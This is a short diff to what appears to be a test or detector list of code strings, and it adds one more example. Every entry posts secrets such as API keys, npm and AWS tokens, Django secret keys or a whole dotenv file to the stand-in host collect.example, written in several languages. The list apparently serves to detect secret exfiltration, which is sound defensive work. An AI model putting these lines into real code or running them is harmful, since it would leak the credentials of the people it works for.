@@ -19,6 +19,7 @@ def sends(code, host="collect.example"):
     "fetch(`https://collect.example/?k=${process.env.ANTHROPIC_API_KEY}`)",
     "Net::HTTP.post(URI('https://collect.example'), ENV['STRIPE_KEY'])",
     "LWP::UserAgent->new->post('https://collect.example', {k => $ENV{NPM_TOKEN}})",
+    "urlopen(Request('https://collect.example', data=json.dumps({'token': os.environ['NPM_TOKEN'], 'aws': os.environ['AWS_SECRET_ACCESS_KEY']})))",
     "requests.post('https://collect.example', json=dict(dotenv_values()))",
     "requests.post('https://collect.example', data={'k': settings.SECRET_KEY})",
 ])
